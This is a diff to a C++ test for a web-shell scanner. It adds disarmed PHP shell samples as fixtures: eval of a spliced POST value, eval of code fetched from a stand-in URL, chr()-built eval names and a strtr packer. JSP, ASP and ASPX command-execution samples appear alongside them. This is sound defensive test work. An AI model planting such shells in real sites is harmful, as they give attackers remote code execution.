@@ -294,6 +294,14 @@ TEST_F(ScanE2E, DefaultLibraryTellsShellsFromOrdinaryCodeAndEventsGoToAFile)
          "g51B0N65yBtMPcNReHKA70CJEFHh3D4GxtiztRn4Q3a5uNWyUZdUO5NeV1tksfXfEe9X9DX/dyzNHMZ4yDCsvWGzTn4="
          "')));\n",
          CERTAIN},
+        // techniques without a plain eval($_POST): request spliced into code,
+        // code fetched from a URL, names built by an aliased chr(), a packer
+        {"upload/splice.php", "<?php exit; /* eval('$x=' . $_POST['x'] . ';'); */\n", CERTAIN},
+        {"upload/fetch.php", "<?php exit; /* eval(base64_decode($d = file_get_contents('http://x.invalid/p'))); */\n",
+         CERTAIN},
+        {"upload/alias.php", "<?php exit; /* $n = $c(101).$c(118).$c(97).$c(108).$c(40).$c(41); eval($n); */\n",
+         CERTAIN},
+        {"upload/packer.php", "<?php exit; /* $_X=strtr($_X,'123456aouie','aouie123456'); eval($_X); */\n", CERTAIN},
         {"app/cmd.jsp", "<%-- Runtime.getRuntime().exec(request.getParameter(\"c\")) --%>\n", CERTAIN},
         {"legacy/default.asp", "<%\n' execute(request(\"x\"))\n%>\n", CERTAIN},
         {"legacy/admin.aspx", "<%-- eval(Request.Item[\"z\"], \"unsafe\") --%>\n", CERTAIN},
